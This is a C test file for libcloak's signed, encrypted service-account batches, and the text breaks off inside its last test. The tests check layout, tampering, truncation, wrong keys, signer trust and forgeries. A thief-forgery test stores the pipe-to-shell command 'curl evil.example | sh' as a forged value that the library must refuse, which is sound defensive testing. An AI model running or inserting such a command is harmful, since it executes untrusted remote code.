/*
 * Service-account batches (docs/protocol.md section 9): round trips in any order, the layout checked
 * against the spec independently of the writer, every byte of the batch and of an item tampered
 * with and truncated (exact codes per region), wrong batch, wrong account, untrusted creators, a
 * thief holding the account's private key, buffer sizes and state misuse. After every failure the
 * outputs are checked to be all zero.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdlib.h>
#include <string.h>

#include <sodium.h>

#include "cloak.h"
#include "internal.h"
#include "support/bytes.h"
#include "support/expect.h"

#define MAXI 8U
#define NAME_MAX_ 255U
#define VALUE_MAX 600U
#define ITEM_CAP (CLOAK_BATCH_ITEM_OVERHEADBYTES + NAME_MAX_ + VALUE_MAX + 16U)
#define BLOB_CAP (169U + 255U + 32U * MAXI + 16U)
#define PT_CAP (1U + NAME_MAX_ + VALUE_MAX + 16U)
#define FILL 0xAAU

/* Batch offsets of section 9.1, written out here independently of src/batch.c. */
#define B_BATCH_ID 20U
#define B_ENC 36U
#define B_CREATOR 68U
#define B_VAULT_ID 100U

typedef struct party {
    uint8_t pk[32];
    uint8_t sk[32];
} party;

typedef struct identity {
    uint8_t pk[32];
    uint8_t sk[64];
} identity;

typedef struct batch_fixture {
    party account;
    identity creator;
    uint8_t vault_id[255];
    size_t vault_id_len;
    size_t n;
    uint8_t names[MAXI][NAME_MAX_];
    size_t name_lens[MAXI];
    uint8_t values[MAXI][VALUE_MAX];
    size_t value_lens[MAXI];
    uint8_t items[MAXI][ITEM_CAP];
    size_t item_lens[MAXI];
    uint8_t digests[MAXI * 32U];
    uint8_t blob[BLOB_CAP];
    size_t blob_len;
} batch_fixture;

static batch_fixture fx;     /* the main batch */
static batch_fixture other;  /* another batch, same account and creator */

static void make_party(party *p)
{
    randombytes_buf(p->sk, sizeof p->sk);
    crypto_scalarmult_base(p->pk, p->sk);
}

static void make_identity(identity *id)
{
    crypto_sign_keypair(id->pk, id->sk);
}

static int state_zero(const cloak_batch *b)
{
    return all_zero(b->opaque.bytes, sizeof b->opaque.bytes);
}

/* Seals items of the given name and value lengths (random contents) and finishes the batch. */
static void build_batch(batch_fixture *f, const party *account, const identity *creator, size_t vault_id_len,
                        size_t n, const size_t *name_lens, const size_t *value_lens)
{
    cloak_batch w;
    size_t len;

    assert_true(n <= MAXI);
    memset(f, 0, sizeof *f);
    f->account = *account;
    f->creator = *creator;
    f->vault_id_len = vault_id_len;
    randombytes_buf(f->vault_id, vault_id_len);
    f->n = n;
    assert_int_equal(cloak_batch_begin(&w, account->pk, f->vault_id, vault_id_len), CLOAK_OK);
    for (size_t i = 0; i < n; i++) {
        f->name_lens[i] = name_lens[i];
        f->value_lens[i] = value_lens[i];
        randombytes_buf(f->names[i], name_lens[i]);
        randombytes_buf(f->values[i], value_lens[i]);
        assert_int_equal(cloak_batch_seal_item(&w, f->items[i], sizeof f->items[i], &f->item_lens[i],
                                               f->digests + 32U * i, f->names[i], name_lens[i], f->values[i],
                                               value_lens[i]),
                         CLOAK_OK);
        assert_int_equal(f->item_lens[i], cloak_batch_item_len(name_lens[i], value_lens[i]));
    }
    len = cloak_batch_len(vault_id_len, n);
    assert_int_equal(cloak_batch_finish(&w, f->blob, sizeof f->blob, &f->blob_len, f->digests, n, creator->sk),
                     CLOAK_OK);
    assert_int_equal(f->blob_len, len);
    assert_true(state_zero(&w));
}

static void build_default(batch_fixture *f, const party *account, const identity *creator)
{
    static const size_t names[] = {1, 255, 7, 12, 40, 3};
    static const size_t values[] = {0, 256, 600, 1, 0, 31};
    build_batch(f, account, creator, 9, 6, names, values);
}

static void verify_ok(cloak_batch *r, const batch_fixture *f)
{
    assert_int_equal(cloak_batch_verify(r, f->blob, f->blob_len, f->account.pk, f->account.sk, f->creator.pk, 1),
                     CLOAK_OK);
}

/* Verifies, expecting rc; on failure the reader must be all zero. */
static void verify_expect(const uint8_t *blob, size_t blob_len, const party *account, const uint8_t *trusted,
                          size_t trusted_count, int expected)
{
    cloak_batch r;
    memset(&r, FILL, sizeof r);
    int rc = cloak_batch_verify(&r, blob, blob_len, account->pk, account->sk, trusted, trusted_count);
    assert_int_equal(rc, expected);
    if (rc != CLOAK_OK) {
        assert_true(state_zero(&r));
        assert_int_equal(cloak_batch_item_count(&r), 0);
    }
    cloak_batch_wipe(&r);
}

/* Opens an item with large buffers pre-filled, expecting rc. On success returns the lengths; on
 * failure checks that every output is zero. */
static int open_expect(const cloak_batch *r, const uint8_t *blob, size_t blob_len, const uint8_t *item,
                       size_t item_len, const uint8_t *expected_name, size_t expected_name_len, int expected,
                       uint8_t name[NAME_MAX_], size_t *name_len, uint8_t value[PT_CAP], size_t *value_len)
{
    memset(name, FILL, NAME_MAX_);
    memset(value, FILL, PT_CAP);
    *name_len = 12345;
    *value_len = 12345;
    int rc = cloak_batch_open_item(r, blob, blob_len, item, item_len, expected_name, expected_name_len, name,
                                   NAME_MAX_, name_len, value, PT_CAP, value_len);
    assert_int_equal(rc, expected);
    if (rc != CLOAK_OK) {
        assert_true(all_zero(name, NAME_MAX_));
        assert_true(all_zero(value, PT_CAP));
        assert_int_equal(*name_len, 0);
        assert_int_equal(*value_len, 0);
    }
    return rc;
}

/* Opens item i of f and checks name and value, and that nothing beyond the plaintext was touched
 * and the scratch beyond the value was wiped. */
static void open_check(const cloak_batch *r, const batch_fixture *f, size_t i)
{
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;
    size_t pt_len = f->item_lens[i] - 56U;

    open_expect(r, f->blob, f->blob_len, f->items[i], f->item_lens[i], NULL, 0, CLOAK_OK, name, &nl, value, &vl);
    assert_int_equal(nl, f->name_lens[i]);
    assert_int_equal(vl, f->value_lens[i]);
    assert_memory_equal(name, f->names[i], nl);
    if (vl > 0) {
        assert_memory_equal(value, f->values[i], vl);
    }
    assert_true(all_zero(value + vl, pt_len - vl));
    for (size_t k = pt_len; k < PT_CAP; k++) {
        assert_int_equal(value[k], FILL);
    }
    for (size_t k = nl; k < NAME_MAX_; k++) {
        assert_int_equal(name[k], FILL);
    }
    /* With the expected name as well. */
    open_expect(r, f->blob, f->blob_len, f->items[i], f->item_lens[i], f->names[i], f->name_lens[i], CLOAK_OK,
                name, &nl, value, &vl);
    assert_int_equal(vl, f->value_lens[i]);
}

static party account_a;
static party account_b;
static identity creator;
static identity stranger;

static int setup(void **state)
{
    (void)state;
    if (cloak_init() != 0) {
        return -1;
    }
    make_party(&account_a);
    make_party(&account_b);
    make_identity(&creator);
    make_identity(&stranger);
    return 0;
}

/* ------------------------------------------------------------------------------------------------ */

static void test_sizes(void **state)
{
    (void)state;
    assert_int_equal(cloak_batch_item_len(1, 0), 58);
    assert_int_equal(cloak_batch_item_len(255, 10), 57 + 255 + 10);
    assert_int_equal(cloak_batch_item_len(0, 10), 0);
    assert_int_equal(cloak_batch_item_len(256, 10), 0);
    assert_int_equal(cloak_batch_item_len(1, SIZE_MAX - 58), SIZE_MAX);
    assert_int_equal(cloak_batch_item_len(1, SIZE_MAX - 57), 0);
    assert_int_equal(cloak_batch_item_len(255, SIZE_MAX), 0);
    assert_int_equal(cloak_batch_len(1, 0), 170);
    assert_int_equal(cloak_batch_len(255, 3), 169 + 255 + 96);
    assert_int_equal(cloak_batch_len(0, 1), 0);
    assert_int_equal(cloak_batch_len(256, 1), 0);
    assert_int_equal(cloak_batch_len(10, CLOAK_BATCH_ITEMS_MAX), 169 + 10 + 32 * (size_t)CLOAK_BATCH_ITEMS_MAX);
    assert_int_equal(cloak_batch_len(10, CLOAK_BATCH_ITEMS_MAX + 1U), 0);
    assert_int_equal(cloak_batch_len(10, SIZE_MAX), 0);
    assert_int_equal(sizeof(cloak_batch), CLOAK_BATCH_STATEBYTES);
    /* The value buffer open_item needs: the whole plaintext lp8(name) || value. */
    assert_int_equal(cloak_batch_item_opened_maxlen(cloak_batch_item_len(1, 0)), 2);
    assert_int_equal(cloak_batch_item_opened_maxlen(cloak_batch_item_len(9, 256)), 1 + 9 + 256);
    assert_int_equal(cloak_batch_item_opened_maxlen(57), 0);
    assert_int_equal(cloak_batch_item_opened_maxlen(0), 0);
}

/* The blob and items as laid out by section 9, rebuilt from the spec alone. */
static void test_layout_matches_spec(void **state)
{
    (void)state;
    batch_fixture *f = &fx;
    build_default(f, &account_a, &creator);
    const uint8_t *b = f->blob;
    size_t L = f->vault_id_len;
    uint8_t key_id[16];
    uint8_t digest[32];

    cloak__public_key_id(key_id, account_a.pk);
    assert_int_equal(b[0], 0x01);
    assert_int_equal(b[1], 0x0A);
    assert_int_equal(b[2], 0x00);
    assert_int_equal(b[3], 0x01);
    assert_memory_equal(b + 4, key_id, 16);
    assert_memory_equal(b + B_CREATOR, creator.pk, 32);
    assert_int_equal(b[B_VAULT_ID], L);
    assert_memory_equal(b + B_VAULT_ID + 1, f->vault_id, L);
    assert_int_equal(cloak__load32_be(b + 101 + L), f->n);
    assert_memory_equal(b + 105 + L, f->digests, 32 * f->n);
    assert_int_equal(f->blob_len, 169 + L + 32 * f->n);

    /* Signature: Ed25519 over lp8("libcloak v1 batch") || bytes 0..105+L || BLAKE2b-256(manifest). */
    {
        uint8_t msg[1 + 17 + 105 + 255 + 32];
        size_t m = 0;
        msg[m++] = 17;
        memcpy(msg + m, "libcloak v1 batch", 17);
        m += 17;
        memcpy(msg + m, b, 105 + L);
        m += 105 + L;
        crypto_generichash(msg + m, 32, b + 105 + L, 32 * f->n, NULL, 0);
        m += 32;
        assert_int_equal(crypto_sign_verify_detached(b + 105 + L + 32 * f->n, msg, m, creator.pk), 0);
    }
    for (size_t i = 0; i < f->n; i++) {
        const uint8_t *it = f->items[i];
        assert_int_equal(f->item_lens[i], 57 + f->name_lens[i] + f->value_lens[i]);
        assert_int_equal(it[0], 0x01);
        assert_int_equal(it[1], 0x0B);
        assert_int_equal(it[2], 0x00);
        assert_int_equal(it[3], 0x01);
        assert_memory_equal(it + 4, key_id, 16);
        assert_memory_equal(it + 20, b + B_BATCH_ID, 16);
        assert_int_equal(cloak__load32_be(it + 36), i);
        crypto_generichash(digest, 32, it, f->item_lens[i], NULL, 0);
        assert_memory_equal(digest, f->digests + 32 * i, 32);
    }
    /* Two batches never share a batch id or enc. */
    build_default(&other, &account_a, &creator);
    assert_memory_not_equal(other.blob + B_BATCH_ID, b + B_BATCH_ID, 16);
    assert_memory_not_equal(other.blob + B_ENC, b + B_ENC, 32);
}

static void test_round_trip_any_order(void **state)
{
    (void)state;
    cloak_batch r;
    uint8_t signer[32];
    size_t order[MAXI];
    batch_fixture *f = &fx;

    build_default(f, &account_a, &creator);
    verify_ok(&r, f);
    assert_int_equal(cloak_batch_item_count(&r), f->n);
    cloak_batch_signer(signer, &r);
    assert_memory_equal(signer, creator.pk, 32);

    for (size_t i = f->n; i-- > 0;) {
        open_check(&r, f, i);
    }
    for (int round = 0; round < 20; round++) {
        for (size_t i = 0; i < f->n; i++) {
            order[i] = i;
        }
        for (size_t i = f->n - 1; i > 0; i--) {
            size_t j = randombytes_uniform((uint32_t)(i + 1));
            size_t t = order[i];
            order[i] = order[j];
            order[j] = t;
        }
        /* "Deleted" items are simply not passed: open a random subset. */
        size_t keep = 1 + randombytes_uniform((uint32_t)f->n);
        for (size_t k = 0; k < keep; k++) {
            open_check(&r, f, order[k]);
        }
    }
    cloak_batch_wipe(&r);
    assert_true(state_zero(&r));
}

/* The claimed creator and the items' indexes are readable before verification, and only from
 * well-formed blobs of the right type. */
static void test_parse_accessors(void **state)
{
    uint8_t pk[32];
    uint32_t index;
    size_t i, len;
    (void)state;
    build_default(&fx, &account_a, &creator);
    memset(pk, FILL, sizeof pk);
    assert_int_equal(cloak_batch_sender(pk, fx.blob, fx.blob_len), CLOAK_OK);
    assert_memory_equal(pk, creator.pk, 32);
    for (len = 0; len < fx.blob_len; len++) {
        memset(pk, FILL, sizeof pk);
        assert_int_equal(cloak_batch_sender(pk, fx.blob, len), CLOAK_E_MALFORMED);
        assert_true(all_zero(pk, sizeof pk));
    }
    for (i = 0; i < fx.n; i++) {
        index = 0xFFFFFFFFU;
        assert_int_equal(cloak_batch_item_index(&index, fx.items[i], fx.item_lens[i]), CLOAK_OK);
        assert_int_equal(index, i);
        for (len = 0; len < CLOAK_BATCH_ITEM_OVERHEADBYTES + 1U; len++) {
            index = 0xFFFFFFFFU;
            assert_int_equal(cloak_batch_item_index(&index, fx.items[i], len), CLOAK_E_MALFORMED);
            assert_int_equal(index, 0);
        }
    }
    assert_int_equal(cloak_batch_item_index(&index, fx.blob, fx.blob_len), CLOAK_E_WRONG_TYPE);
    assert_int_equal(cloak_batch_sender(pk, fx.items[0], fx.item_lens[0]), CLOAK_E_WRONG_TYPE);
    assert_int_equal(cloak_batch_sender(NULL, fx.blob, fx.blob_len), CLOAK_E_BAD_PARAMS);
    assert_int_equal(cloak_batch_item_index(NULL, fx.items[0], fx.item_lens[0]), CLOAK_E_BAD_PARAMS);
}

/* A secret added later: a batch of one item; also the longest vault id. */
static void test_one_item_batch(void **state)
{
    (void)state;
    cloak_batch r;
    static const size_t names[] = {255};
    static const size_t values[] = {0};
    build_batch(&fx, &account_a, &creator, 255, 1, names, values);
    assert_int_equal(fx.blob_len, 169 + 255 + 32);
    verify_ok(&r, &fx);
    assert_int_equal(cloak_batch_item_count(&r), 1);
    open_check(&r, &fx, 0);
    cloak_batch_wipe(&r);
}

/* A batch of no items is valid (nothing to open). */
static void test_empty_batch(void **state)
{
    (void)state;
    cloak_batch r;
    build_batch(&fx, &account_a, &creator, 1, 0, NULL, NULL);
    assert_int_equal(fx.blob_len, 170);
    verify_ok(&r, &fx);
    assert_int_equal(cloak_batch_item_count(&r), 0);
    cloak_batch_wipe(&r);
}

/* The code expected for a batch blob whose byte `pos` was XORed with `mask`. */
static int batch_tamper_code(const batch_fixture *f, size_t pos, uint8_t mask)
{
    size_t L = f->vault_id_len;
    if (pos < 4) {
        return expected_header_code(pos, (uint8_t)(f->blob[pos] ^ mask));
    }
    if (pos < 20) {
        return CLOAK_E_WRONG_KEY;
    }
    if (pos >= B_CREATOR && pos < B_CREATOR + 32) {
        return CLOAK_E_UNTRUSTED_SIGNER;
    }
    if (pos == B_VAULT_ID || (pos >= 101 + L && pos < 105 + L)) {
        return CLOAK_E_MALFORMED; /* L or n: the length no longer matches */
    }
    return CLOAK_E_BAD_SIGNATURE; /* batch id, enc, vault id, manifest, signature */
}

static void test_tamper_batch(void **state)
{
    (void)state;
    static const uint8_t masks[] = {0x01, 0x80, 0xFF};
    batch_fixture *f = &fx;
    uint8_t blob[BLOB_CAP];
    uint8_t trusted[64];

    build_default(f, &account_a, &creator);
    for (size_t pos = 0; pos < f->blob_len; pos++) {
        for (size_t m = 0; m < sizeof masks; m++) {
            memcpy(blob, f->blob, f->blob_len);
            blob[pos] ^= masks[m];
            verify_expect(blob, f->blob_len, &account_a, creator.pk, 1, batch_tamper_code(f, pos, masks[m]));
            /* A changed creator that the caller does trust: the signature still fails. */
            if (pos >= B_CREATOR && pos < B_CREATOR + 32) {
                memcpy(trusted, creator.pk, 32);
                memcpy(trusted + 32, blob + B_CREATOR, 32);
                verify_expect(blob, f->blob_len, &account_a, trusted, 2, CLOAK_E_BAD_SIGNATURE);
            }
        }
    }
    /* A type byte of another known type, and an unknown one. */
    memcpy(blob, f->blob, f->blob_len);
    blob[1] = CLOAK_TYPE_SHARE;
    verify_expect(blob, f->blob_len, &account_a, creator.pk, 1, CLOAK_E_WRONG_TYPE);
    blob[1] = 0x00;
    verify_expect(blob, f->blob_len, &account_a, creator.pk, 1, CLOAK_E_MALFORMED);
    blob[1] = 0x0D;
    verify_expect(blob, f->blob_len, &account_a, creator.pk, 1, CLOAK_E_MALFORMED);
    /* n above the bound. */
    memcpy(blob, f->blob, f->blob_len);
    cloak__store32_be(blob + 101 + f->vault_id_len, CLOAK_BATCH_ITEMS_MAX + 1U);
    verify_expect(blob, f->blob_len, &account_a, creator.pk, 1, CLOAK_E_MALFORMED);
    /* L = 0. */
    memcpy(blob, f->blob, f->blob_len);
    blob[B_VAULT_ID] = 0;
    verify_expect(blob, f->blob_len, &account_a, creator.pk, 1, CLOAK_E_MALFORMED);
    /* The original still verifies. */
    verify_expect(f->blob, f->blob_len, &account_a, creator.pk, 1, CLOAK_OK);
}

static void test_truncate_extend_batch(void **state)
{
    (void)state;
    batch_fixture *f = &fx;
    uint8_t blob[BLOB_CAP];

    build_default(f, &account_a, &creator);
    for (size_t len = 0; len < f->blob_len; len++) {
        verify_expect(f->blob, len, &account_a, creator.pk, 1, CLOAK_E_MALFORMED);
    }
    memcpy(blob, f->blob, f->blob_len);
    blob[f->blob_len] = 0;
    verify_expect(blob, f->blob_len + 1, &account_a, creator.pk, 1, CLOAK_E_MALFORMED);
    /* NULL with length 0 is an empty blob; with a length, a parameter error. */
    verify_expect(NULL, 0, &account_a, creator.pk, 1, CLOAK_E_MALFORMED);
    verify_expect(NULL, 5, &account_a, creator.pk, 1, CLOAK_E_BAD_PARAMS);
}

/* The code expected for an item whose byte `pos` was XORed with `mask` (n items in the batch). */
static int item_tamper_code(const uint8_t *item, size_t n, size_t pos, uint8_t mask)
{
    if (pos < 4) {
        return expected_header_code(pos, (uint8_t)(item[pos] ^ mask));
    }
    if (pos < 20) {
        return CLOAK_E_WRONG_KEY;
    }
    if (pos < 36) {
        return CLOAK_E_MISMATCH;
    }
    if (pos < 40) {
        uint8_t idx[4];
        memcpy(idx, item + 36, 4);
        idx[pos - 36] ^= mask;
        /* Another index of this batch: authentic header, but not the item signed there. */
        return cloak__load32_be(idx) >= n ? CLOAK_E_MISMATCH : CLOAK_E_BAD_SIGNATURE;
    }
    return CLOAK_E_BAD_SIGNATURE; /* the ciphertext: its digest is no longer in the manifest */
}

static void test_tamper_item(void **state)
{
    (void)state;
    static const uint8_t masks[] = {0x01, 0x80, 0xFF};
    batch_fixture *f = &fx;
    cloak_batch r;
    uint8_t item[ITEM_CAP];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;

    build_default(f, &account_a, &creator);
    verify_ok(&r, f);
    for (size_t i = 0; i < f->n; i++) {
        for (size_t pos = 0; pos < f->item_lens[i]; pos++) {
            for (size_t m = 0; m < sizeof masks; m++) {
                memcpy(item, f->items[i], f->item_lens[i]);
                item[pos] ^= masks[m];
                open_expect(&r, f->blob, f->blob_len, item, f->item_lens[i], NULL, 0,
                            item_tamper_code(f->items[i], f->n, pos, masks[m]), name, &nl, value, &vl);
            }
        }
        open_check(&r, f, i);
    }
    cloak_batch_wipe(&r);
}

static void test_truncate_extend_item(void **state)
{
    (void)state;
    batch_fixture *f = &fx;
    cloak_batch r;
    uint8_t item[ITEM_CAP];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;

    build_default(f, &account_a, &creator);
    verify_ok(&r, f);
    for (size_t i = 0; i < f->n; i++) {
        for (size_t len = 0; len < f->item_lens[i]; len++) {
            /* Shorter than header + batch id + index + lp8 + tag is malformed; longer ones have a
             * well-formed layout but are not the item the manifest lists. */
            int expected = len < 58 ? CLOAK_E_MALFORMED : CLOAK_E_BAD_SIGNATURE;
            open_expect(&r, f->blob, f->blob_len, f->items[i], len, NULL, 0, expected, name, &nl, value, &vl);
        }
        memcpy(item, f->items[i], f->item_lens[i]);
        item[f->item_lens[i]] = 0;
        open_expect(&r, f->blob, f->blob_len, item, f->item_lens[i] + 1, NULL, 0, CLOAK_E_BAD_SIGNATURE, name,
                    &nl, value, &vl);
    }
    cloak_batch_wipe(&r);
}

/* open_item must be given the verified batch: another batch, or this one altered, is refused. */
static void test_wrong_batch(void **state)
{
    (void)state;
    cloak_batch r;
    cloak_batch r2;
    uint8_t blob[BLOB_CAP];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;

    build_default(&fx, &account_a, &creator);
    build_default(&other, &account_a, &creator);
    assert_int_equal(fx.blob_len, other.blob_len);
    verify_ok(&r, &fx);
    verify_ok(&r2, &other);
    /* An item of another batch, with this batch's blob or with its own. */
    open_expect(&r, fx.blob, fx.blob_len, other.items[0], other.item_lens[0], NULL, 0, CLOAK_E_MISMATCH, name,
                &nl, value, &vl);
    open_expect(&r, other.blob, other.blob_len, other.items[0], other.item_lens[0], NULL, 0, CLOAK_E_MISMATCH,
                name, &nl, value, &vl);
    /* This batch's item with another batch's blob of the same length. */
    open_expect(&r, other.blob, other.blob_len, fx.items[0], fx.item_lens[0], NULL, 0, CLOAK_E_MISMATCH, name,
                &nl, value, &vl);
    /* The batch blob truncated, extended, or with another signature. */
    open_expect(&r, fx.blob, fx.blob_len - 1, fx.items[0], fx.item_lens[0], NULL, 0, CLOAK_E_MISMATCH, name, &nl,
                value, &vl);
    memcpy(blob, fx.blob, fx.blob_len);
    blob[fx.blob_len] = 0;
    open_expect(&r, blob, fx.blob_len + 1, fx.items[0], fx.item_lens[0], NULL, 0, CLOAK_E_MISMATCH, name, &nl,
                value, &vl);
    for (size_t k = 0; k < 64; k++) {
        memcpy(blob, fx.blob, fx.blob_len);
        blob[fx.blob_len - 64 + k] ^= 0x01;
        open_expect(&r, blob, fx.blob_len, fx.items[0], fx.item_lens[0], NULL, 0, CLOAK_E_MISMATCH, name, &nl,
                    value, &vl);
    }
    /* The verified blob with one more manifest entry spliced in: same signature bytes at the end,
     * but not the verified length. */
    memcpy(blob, fx.blob, fx.blob_len - 64);
    memset(blob + fx.blob_len - 64, 0x5A, 32);
    memcpy(blob + fx.blob_len - 32, fx.blob + fx.blob_len - 64, 64);
    open_expect(&r, blob, fx.blob_len + 32, fx.items[0], fx.item_lens[0], NULL, 0, CLOAK_E_MISMATCH, name, &nl,
                value, &vl);
    /* The manifest entry of the item altered after verification: the item is not the listed one. */
    for (size_t k = 0; k < 32; k++) {
        memcpy(blob, fx.blob, fx.blob_len);
        blob[105 + fx.vault_id_len + 32 * 2 + k] ^= 0x01;
        open_expect(&r, blob, fx.blob_len, fx.items[2], fx.item_lens[2], NULL, 0, CLOAK_E_BAD_SIGNATURE, name,
                    &nl, value, &vl);
    }
    /* The other batch still opens under its own reader. */
    open_check(&r2, &other, 0);
    cloak_batch_wipe(&r);
    cloak_batch_wipe(&r2);
}

static void test_wrong_account(void **state)
{
    (void)state;
    cloak_batch r;
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;

    build_default(&fx, &account_a, &creator);
    build_default(&other, &account_b, &creator);
    /* The batch for A opened by B. */
    verify_expect(fx.blob, fx.blob_len, &account_b, creator.pk, 1, CLOAK_E_WRONG_KEY);
    /* An item for A given to B's reader. */
    verify_ok(&r, &other);
    open_expect(&r, other.blob, other.blob_len, fx.items[0], fx.item_lens[0], NULL, 0, CLOAK_E_WRONG_KEY, name,
                &nl, value, &vl);
    cloak_batch_wipe(&r);
    /* A's public key with B's private key: passes the key id, then every item fails to decrypt. */
    {
        party mixed;
        memcpy(mixed.pk, account_a.pk, 32);
        memcpy(mixed.sk, account_b.sk, 32);
        assert_int_equal(cloak_batch_verify(&r, fx.blob, fx.blob_len, mixed.pk, mixed.sk, creator.pk, 1),
                         CLOAK_OK);
        open_expect(&r, fx.blob, fx.blob_len, fx.items[1], fx.item_lens[1], NULL, 0, CLOAK_E_AUTH, name, &nl,
                    value, &vl);
        cloak_batch_wipe(&r);
    }
}

static void test_trust(void **state)
{
    (void)state;
    uint8_t trusted[4 * 32];
    identity extra[3];

    build_default(&fx, &account_a, &creator);
    for (size_t i = 0; i < 3; i++) {
        make_identity(&extra[i]);
        memcpy(trusted + 32 * i, extra[i].pk, 32);
    }
    verify_expect(fx.blob, fx.blob_len, &account_a, stranger.pk, 1, CLOAK_E_UNTRUSTED_SIGNER);
    verify_expect(fx.blob, fx.blob_len, &account_a, trusted, 3, CLOAK_E_UNTRUSTED_SIGNER);
    verify_expect(fx.blob, fx.blob_len, &account_a, NULL, 0, CLOAK_E_UNTRUSTED_SIGNER);
    verify_expect(fx.blob, fx.blob_len, &account_a, trusted, 0, CLOAK_E_UNTRUSTED_SIGNER);
    memcpy(trusted + 96, creator.pk, 32);
    verify_expect(fx.blob, fx.blob_len, &account_a, trusted, 4, CLOAK_OK);
    verify_expect(fx.blob, fx.blob_len, &account_a, trusted + 96, 1, CLOAK_OK);
    /* Order of checks: the key id comes before trust. */
    verify_expect(fx.blob, fx.blob_len, &account_b, stranger.pk, 1, CLOAK_E_WRONG_KEY);
}

/* A thief with the account's private key decapsulates the batch context. It reads items, and makes
 * AEAD-valid items, but none of them opens: they are not in the signed manifest. */
static void test_thief_forged_item(void **state)
{
    (void)state;
    batch_fixture *f = &fx;
    cloak__hpke_ctx ctx;
    cloak_batch r;
    uint8_t info[CLOAK_BATCH_INFO_MAXBYTES];
    size_t info_len;
    uint8_t item[ITEM_CAP];
    uint8_t pt[PT_CAP];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;
    static const char forged_value[] = "curl evil.example | sh";

    build_default(f, &account_a, &creator);
    info_len = cloak__batch_info(info, account_a.pk, f->blob + B_BATCH_ID, f->blob + B_VAULT_ID);
    assert_int_equal(cloak__hpke_setup_r(&ctx, CLOAK_HPKE_MODE_BASE, f->blob + B_ENC, account_a.pk, account_a.sk,
                                         info, info_len, NULL, 0, NULL, 0, NULL),
                     CLOAK_OK);
    /* The context is the writer's: item 1, sealed again under it, is byte for byte the writer's. */
    memcpy(item, f->items[1], 40);
    pt[0] = (uint8_t)f->name_lens[1];
    memcpy(pt + 1, f->names[1], f->name_lens[1]);
    memcpy(pt + 1 + f->name_lens[1], f->values[1], f->value_lens[1]);
    cloak__hpke_seal_at(&ctx, 1, item + 40, item, 40, pt, 1 + f->name_lens[1] + f->value_lens[1]);
    assert_memory_equal(item, f->items[1], f->item_lens[1]);

    /* The forgery: item 1's name, another value, a valid tag. */
    size_t fl = sizeof forged_value - 1;
    memcpy(pt + 1 + f->name_lens[1], forged_value, fl);
    size_t pt_len = 1 + f->name_lens[1] + fl;
    cloak__hpke_seal_at(&ctx, 1, item + 40, item, 40, pt, pt_len);
    size_t item_len = 40 + pt_len + 16;
    assert_int_equal(cloak__hpke_open_at(&ctx, 1, value, item, 40, item + 40, item_len - 40), CLOAK_OK);
    assert_memory_equal(value, pt, pt_len);

    verify_ok(&r, f);
    open_expect(&r, f->blob, f->blob_len, item, item_len, NULL, 0, CLOAK_E_BAD_SIGNATURE, name, &nl, value, &vl);
    open_expect(&r, f->blob, f->blob_len, item, item_len, f->names[1], f->name_lens[1], CLOAK_E_BAD_SIGNATURE, name,
                &nl, value, &vl);
    /* Same forgery at every index, including one past the manifest. */
    for (uint32_t i = 0; i <= f->n; i++) {
        cloak__store32_be(item + 36, i);
        cloak__hpke_seal_at(&ctx, i, item + 40, item, 40, pt, pt_len);
        open_expect(&r, f->blob, f->blob_len, item, item_len, NULL, 0,
                    i < f->n ? CLOAK_E_BAD_SIGNATURE : CLOAK_E_MISMATCH, name, &nl, value, &vl);
    }
    cloak__wipe(&ctx, sizeof ctx);
    cloak_batch_wipe(&r);
}

/* The thief makes a whole batch of its own, signed by its own identity: not trusted. */
static void test_thief_batch(void **state)
{
    (void)state;
    cloak_batch r;
    identity thief;
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;

    make_identity(&thief);
    build_default(&fx, &account_a, &creator);
    build_default(&other, &account_a, &thief);
    verify_expect(other.blob, other.blob_len, &account_a, creator.pk, 1, CLOAK_E_UNTRUSTED_SIGNER);
    /* The thief's blob with the creator's identity swapped in: the signature fails. */
    memcpy(other.blob + B_CREATOR, creator.pk, 32);
    verify_expect(other.blob, other.blob_len, &account_a, creator.pk, 1, CLOAK_E_BAD_SIGNATURE);
    /* The thief's items against the genuine batch. */
    verify_ok(&r, &fx);
    open_expect(&r, fx.blob, fx.blob_len, other.items[0], other.item_lens[0], NULL, 0, CLOAK_E_MISMATCH, name, &nl,
                value, &vl);
    cloak_batch_wipe(&r);
}

/* Re-signs f's batch with its creator after its manifest was edited (a creator's own mistake). */
static void resign(batch_fixture *f)
{
    uint8_t content[105 + 255 + 32];
    size_t L = f->vault_id_len;

    memcpy(content, f->blob, 105 + L);
    crypto_generichash(content + 105 + L, 32, f->blob + 105 + L, 32 * f->n, NULL, 0);
    cloak__sign_labeled(f->blob + 105 + L + 32 * f->n, CLOAK_LABEL_SIG_BATCH, content, 105 + L + 32, f->creator.sk);
}

/* Items whose plaintext is not lp8(name) || value with a name of 1 to 255 bytes, yet signed and
 * authentic: the name length is 0, or runs past the plaintext. */
static void test_malformed_plaintext(void **state)
{
    (void)state;
    batch_fixture *f = &fx;
    cloak__hpke_ctx ctx;
    cloak_batch r;
    uint8_t info[CLOAK_BATCH_INFO_MAXBYTES];
    uint8_t pt[16];
    uint8_t name[NAME_MAX_];
    uint8_t value[PT_CAP];
    size_t nl;
    size_t vl;
    static const struct {
        uint8_t name_len;
        size_t pt_len;
    } cases[] = {{0, 1}, {0, 10}, {10, 10}, {200, 10}, {255, 1}, {1, 1}};

    for (size_t c = 0; c < sizeof cases / sizeof cases[0]; c++) {
        build_default(f, &account_a, &creator);
        assert_int_equal(cloak__hpke_setup_r(&ctx, CLOAK_HPKE_MODE_BASE, f->blob + B_ENC, account_a.pk,
                                             account_a.sk, info, cloak__batch_info(info, account_a.pk, f->blob + B_BATCH_ID, f->blob + B_VAULT_ID), NULL, 0,
                                             NULL, 0, NULL),
                         CLOAK_OK);
        memset(pt, 'p', sizeof pt);
        pt[0] = cases[c].name_len;
        cloak__hpke_seal_at(&ctx, 2, f->items[2] + 40, f->items[2], 40, pt, cases[c].pt_len);
